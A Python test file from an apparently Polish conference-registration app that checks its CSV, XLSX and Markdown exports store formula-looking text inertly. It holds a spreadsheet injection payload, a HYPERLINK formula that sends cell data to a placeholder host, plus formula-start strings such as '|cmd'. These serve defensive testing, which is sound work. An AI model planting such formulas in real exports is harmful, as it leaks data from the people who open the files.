"""Formula injection: text a person typed stays text in every export (CSV, XLSX, Markdown, print)."""

import io
import re
import zipfile

from openpyxl import load_workbook

from kongres_app.services import exports, organiser
from kongres_app.services.board_exports import board_csv, board_markdown
from kongres_app.services.boards import board_view
from kongres_app.services.export_cells import csv_bytes, markdown_text
from tests.factories import call, org, register

ATTACK = '=HYPERLINK("http://x/?"&A1,"klik")'


def test_xlsx_stores_a_formula_looking_name_as_text(seeded_engine, staff):
    register(seeded_engine, org(1, name=ATTACK))
    rows = call(seeded_engine, organiser.all_participants, staff["organiser"])
    body = exports.participants_xlsx(rows)
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert not re.search(r"<f[ >]", sheet_xml)  # no cell holds a formula
    assert re.search(r't="inlineStr"><is><t>=HYPERLINK', sheet_xml)  # the name is a text cell
    cells = [c for row in load_workbook(io.BytesIO(body)).active.iter_rows() for c in row if c.value == ATTACK]
    assert cells and all(c.data_type == "s" for c in cells)


def test_csv_makes_every_formula_start_inert(seeded_engine, staff):
    register(seeded_engine, org(1, name=ATTACK))
    text = exports.participants_csv(call(seeded_engine, organiser.all_participants, staff["organiser"])).decode()
    assert text.startswith("\ufeff") and f"'{ATTACK}" in text.replace('""', '"')
    for start in ("=1+1", "+1", "-1+A1", "@SUM(A1)", "|cmd", "%0A"):
        assert csv_bytes([[start]]).decode().strip().lstrip("\ufeff").startswith(("'", "\"'")), start
    assert csv_bytes([["-12,5"]]).decode().strip() == "\ufeff-12,5"  # a plain negative number stays a number


def test_markdown_and_board_exports_keep_text_plain(seeded_engine):
    assert markdown_text("**nie** [link](x)") == "\\*\\*nie\\*\\* \\[link\\]\\(x\\)"
    view = call(seeded_engine, board_view, 1)
    assert board_markdown(view).startswith("# Grupa I") and board_csv(view).decode().startswith("\ufeffGrupa;Nr")
